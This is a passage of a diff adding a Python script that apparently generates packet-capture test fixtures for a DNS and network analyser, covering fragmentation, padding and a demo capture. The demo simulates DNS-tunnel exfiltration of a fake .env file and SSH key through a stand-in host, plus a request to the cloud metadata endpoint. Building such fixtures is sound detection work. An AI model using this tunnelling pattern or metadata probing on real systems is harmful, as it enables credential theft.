+    return exchange(id, name, "TXT", an=[rr(name, "TXT", 60, rd_txt(chunks))])
+
+
+def frag4(src, dst, sport, dport, data, ipid, pieces):
+    """pieces: list of (start, end) byte ranges of the UDP datagram, starts multiple of 8."""
+    dgram = bytes(IP(src=src, dst=dst, proto=17) / UDP(sport=sport, dport=dport) / Raw(data))[20:]
+    out = []
+    for start, end in pieces:
+        end = min(end, len(dgram))
+        mf = 1 if end < len(dgram) else 0
+        out.append(IP(src=src, dst=dst, id=ipid, ttl=64, proto=17, flags=mf, frag=start // 8)
+                   / Raw(dgram[start:end]))
+    return out, len(dgram)
+
+
+def gen_ip_frag(out):
+    clk = Clock()
+    recs = []
+    sets = (("inorder", 0x6001, 37001, lambda n: [(0, 256), (256, 512), (512, n)], False),
+            ("reversed", 0x6002, 37002, lambda n: [(0, 256), (256, 512), (512, n)], True),
+            ("overlap", 0x6003, 37003, lambda n: [(0, 264), (256, 520), (512, n)], False))
+    for label, id, sport, cut, rev in sets:
+        name = label + ".frag.example.test"
+        q, r = big_txt(id, name)
+        recs.append((clk(250000), ether(MAC_CLIENT, MAC_DNS, ip4_udp(CLIENT4, DNS4, sport, 53, q, id))))
+        n = len(r) + 8
+        frags, _ = frag4(DNS4, CLIENT4, 53, sport, r, id + 0x100, cut(n))
+        if rev:
+            frags.reverse()
+        for f in frags:
+            recs.append((clk(300), ether(MAC_DNS, MAC_CLIENT, f)))
+    # IPv6 fragments (fragment header, 2 pieces)
+    name = "v6.frag.example.test"
+    q, r = big_txt(0x6004, name)
+    recs.append((clk(250000), ether(MAC_CLIENT, MAC_DNS, ip6_udp(CLIENT6, DNS6, 37004, 53, q))))
+    dgram = bytes(IPv6(src=DNS6, dst=CLIENT6) / UDP(sport=53, dport=37004) / Raw(r))[40:]
+    for start, end in ((0, 304), (304, len(dgram))):
+        m = 1 if end < len(dgram) else 0
+        p = (IPv6(src=DNS6, dst=CLIENT6, hlim=64, nh=44)
+             / IPv6ExtHdrFragment(nh=17, offset=start // 8, m=m, id=0x6004)
+             / Raw(dgram[start:end]))
+        recs.append((clk(300), ether(MAC_DNS, MAC_CLIENT, p)))
+    write_pcap(os.path.join(out, "ip_frag.pcap"), LINKTYPE_ETHERNET, recs)
+
+# ---------------------------------------------------------------- padding
+
+
+def gen_ether_padding(out):
+    clk = Clock()
+    q = dns_msg(0x7001, qd=[(".", "NS")])              # 17 bytes: frame of 59
+    f = ether(MAC_CLIENT, MAC_DNS, ip4_udp(CLIENT4, DNS4, 38001, 53, q, 0x7001))
+    assert len(f) == 59, len(f)
+    recs = [(clk(250000), f + b"\xaa")]
+    q = dns_msg(0x7002, qd=[(".", "NS")])
+    f = ether(MAC_CLIENT, MAC_DNS, ip4_udp(CLIENT4, DNS4, 38002, 53, q, 0x7002))
+    recs.append((clk(250000), f + b"\xaa" + b"\xde\xad\xbe\xef"))  # padding + a trailer
+    # UDP length shorter than the IP payload: 16 bytes of junk inside IP, after UDP.
+    _, r = exchange(0x7002, ".", "NS", an=[rr(".", "NS", 518400, rd_name("a.root.example.test"))])
+    tail = b"\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xc0\x00\x02\x63\xc0\x0c"
+    ipb = IP(src=DNS4, dst=CLIENT4, id=0x7102, ttl=64, flags="DF", proto=17) / Raw(
+        bytes(IP(src=DNS4, dst=CLIENT4, proto=17) / UDP(sport=53, dport=38002) / Raw(r))[20:] + tail)
+    recs.append((clk(1500), ether(MAC_DNS, MAC_CLIENT, ipb)))
+    write_pcap(os.path.join(out, "ether_padding.pcap"), LINKTYPE_ETHERNET, recs)
+
+# ---------------------------------------------------------------- demo
+
+
+def client_hello(sni, alpn=("h2", "http/1.1")):
+    def ext(t, body):
+        return struct.pack("!HH", t, len(body)) + body
+    name = sni.encode()
+    exts = ext(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)
+    exts += ext(11, b"\x03\x00\x01\x02")
+    exts += ext(10, b"\x00\x08\x00\x1d\x00\x17\x00\x18\x00\x19")
+    exts += ext(35, b"")
+    al = b"".join(bytes([len(a)]) + a.encode() for a in alpn)
+    exts += ext(16, struct.pack("!H", len(al)) + al)
+    exts += ext(22, b"") + ext(23, b"")
+    exts += ext(13, b"\x00\x0e\x04\x03\x05\x03\x06\x03\x08\x04\x08\x05\x08\x06\x04\x01")
+    exts += ext(43, b"\x04\x03\x04\x03\x03")
+    exts += ext(45, b"\x01\x01")
+    ks = hashlib.sha256(b"demo key share").digest()
+    exts += ext(51, struct.pack("!HHH", 36, 0x001D, 32) + ks)
+    rnd = hashlib.sha256(b"demo client random").digest()
+    sid = hashlib.sha256(b"demo session id").digest()
+    suites = b"\x13\x01\x13\x02\x13\x03\xc0\x2b\xc0\x2f\xc0\x2c\xc0\x30\xcc\xa9\xcc\xa8"
+    body = b"\x03\x03" + rnd + bytes([32]) + sid + struct.pack("!H", len(suites)) + suites
+    body += b"\x01\x00" + struct.pack("!H", len(exts)) + exts
+    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
+    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs
+
+
+def gen_demo(out):
+    recs = []
+    clk = Clock()
+    ipid = [0x9000]
+
+    def nid():
+        ipid[0] += 1
+        return ipid[0]
+
+    def udp_q(ts, sport, data):
+        recs.append((ts, ether(MAC_CLIENT, MAC_DNS, ip4_udp(CLIENT4, DNS4, sport, 53, data, nid()))))
+
+    def udp_r(ts, sport, data):
+        recs.append((ts, ether(MAC_DNS, MAC_CLIENT, ip4_udp(DNS4, CLIENT4, 53, sport, data, nid()))))
+
+    lookups = [("pypi.example.org", "192.0.2.10", "2001:db8:10::10", None),
+               ("files.example.org", "192.0.2.11", "2001:db8:10::11", "cdn.example.net"),
+               ("api.example.com", "192.0.2.80", "2001:db8:80::80", None),
+               ("github.example.com", "192.0.2.20", None, None),
+               ("objects.example.com", "192.0.2.21", "2001:db8:21::21", "objects-cdn.example.net"),
+               ("registry.example.net", "198.51.100.30", None, None),
+               ("docs.example.org", "198.51.100.31", "2001:db8:31::31", None),
+               ("time.example.net", "198.51.100.123", None, None),
+               ("repo.example.com", "192.0.2.40", "2001:db8:40::40", "repo-edge.example.net"),
+               ("ci.example.test", "192.0.2.41", None, None),
+               ("telemetry.example.com", "198.51.100.50", None, None),
+               ("mirror.example.org", "198.51.100.60", "2001:db8:60::60", None)]
+    t = BASE_US
+    sport = 41000
+    dnsid = 0xA000
+    for i, (name, a4, a6, cname) in enumerate(lookups):
+        for qt, addr in (("A", a4), ("AAAA", a6)):
+            dnsid += 1
+            sport += 1
+            an = []
+            owner = name
+            if cname:
+                an.append(rr(name, "CNAME", 300, rd_name(cname)))
+                owner = cname
+            if addr:
+                an.append(rr(owner, qt, 60, rd_a(addr) if qt == "A" else rd_aaaa(addr)))
+            q, r = exchange(dnsid, name, qt, an=an)
+            udp_q(t, sport, q)
+            udp_r(t + 1800 + 97 * i, sport, r)
+            t += 3100
+        t += 1700000 + 13 * i * 1000
+
+    # tunnel burst: base32 of a fake exfiltrated file, TXT and NULL alternately
+    secret = ("# agent workspace .env (fake, for the demo)\n"
+              "AWS_ACCESS_KEY_ID=AKIAEXAMPLEDEMO0000\n"
+              "AWS_SECRET_ACCESS_KEY=example/demo/secret/not/real/0000000000\n"
+              "DATABASE_URL=postgres://agent:hunter2@db.example.test:5432/prod\n"
+              "OPENAI_API_KEY=sk-example-demo-0000000000000000000000000000\n")
+    secret += "-----BEGIN OPENSSH PRIVATE KEY----- (fake, for the demo)\n"
+    for i in range(24):
+        secret += base64.b64encode(hashlib.sha256(b"demo key %d" % i).digest()
+                                   + hashlib.sha256(b"demo key %d'" % i).digest()[:16]).decode() + "\n"
+    secret += "-----END OPENSSH PRIVATE KEY-----\n"
+    data = secret.encode()
+    chunk = 24
+    tb = BASE_US + 14000000
+    for n, off in enumerate(range(0, len(data), chunk)):
+        enc = base64.b32encode(data[off:off + chunk]).decode().rstrip("=").lower()
+        qname = "%s.%04x.t.example-tunnel.test" % (enc, n)
+        qt = "TXT" if n % 2 == 0 else "NULL"
+        dnsid += 1
+        sport += 1
+        if qt == "TXT":
+            ans = rr(qname, "TXT", 0, rd_txt([base64.b32encode(struct.pack("!HI", n, off)).decode().rstrip("=").lower()]))
+        else:
+            ans = rr(qname, "NULL", 0, [b"\x00" + struct.pack("!HI", n, off) + b"ack"])
+        q, r = exchange(dnsid, qname, qt, an=[ans], q_ar=[opt_rr(4096)], ar=[opt_rr(4096)])
+        ts = tb + n * 150000 + (n * 7919) % 40000
+        udp_q(ts, sport, q)
+        udp_r(ts + 2100 + (n * 31) % 700, sport, r)
+
+    # HTTP GET to the metadata service
+    hc = Clock(BASE_US + 9000000)
+    c = TcpConn(hc, CLIENT4, "169.254.169.254", 45678, 80, 0x3A000000, 0x7B000000, ipid=0xB000,
+                cmac=MAC_CLIENT, smac=MAC_GW)
+    recs += c.handshake(step=0)
+    req = (b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n"
+           b"User-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n")
+    recs.append(c.c_send(req, step=150))
+    recs.append(c.s_ack(step=400))
+    body = b"ami-id\nami-launch-index\nhostname\niam/\ninstance-id\nlocal-ipv4\n"
+    resp = (b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n"
+            b"Server: EC2ws\r\n\r\n" % len(body)) + body
+    recs.append(c.s_send(resp, step=900))
+    recs.append(c.c_ack(step=100))
+    recs += c.close()
+
+    # TLS ClientHello to api.example.com (192.0.2.80)
+    tc = Clock(BASE_US + 10500000)
+    c = TcpConn(tc, CLIENT4, "192.0.2.80", 45690, 443, 0x11000000, 0x22000000, ipid=0xC000,
+                cmac=MAC_CLIENT, smac=MAC_GW)
+    recs += c.handshake(step=0)
+    recs.append(c.c_send(client_hello("api.example.com"), step=300))
+    recs.append(c.s_ack(step=9000))
+    recs += c.close()
+
+    # ping
+    pc = Clock(BASE_US + 12000000)
+    for seq in range(1, 4):
+        payload = struct.pack("<QQ", 1795428000 + seq, 0) + bytes(range(0x10, 0x38))[:40]
+        t0 = pc(0 if seq == 1 else 1000000)
+        req = IP(src=CLIENT4, dst="198.51.100.1", id=0xD000 + seq, ttl=64, flags="DF") / \
+            ICMP(type=8, id=0x4D2, seq=seq) / Raw(payload)
+        rep = IP(src="198.51.100.1", dst=CLIENT4, id=0xE000 + seq, ttl=57) / \
+            ICMP(type=0, id=0x4D2, seq=seq) / Raw(payload)
+        recs.append((t0, ether(MAC_CLIENT, MAC_GW, req)))
+        recs.append((t0 + 11400 + seq * 37, ether(MAC_GW, MAC_CLIENT, rep)))
+
+    recs.sort(key=lambda r: r[0])   # stable: equal stamps keep their order
+    write_pcap(os.path.join(out, "demo.pcap"), LINKTYPE_ETHERNET, recs)
+
+
+def main():
+    out = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
+    os.makedirs(out, exist_ok=True)
+    gen_dns_basic(out)
+    gen_dns_tcp(out)
+    gen_dns_malformed(out)
+    gen_links(out)
+    gen_dns_ipv6(out)
+    gen_ip_frag(out)
+    gen_ether_padding(out)
+    gen_demo(out)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
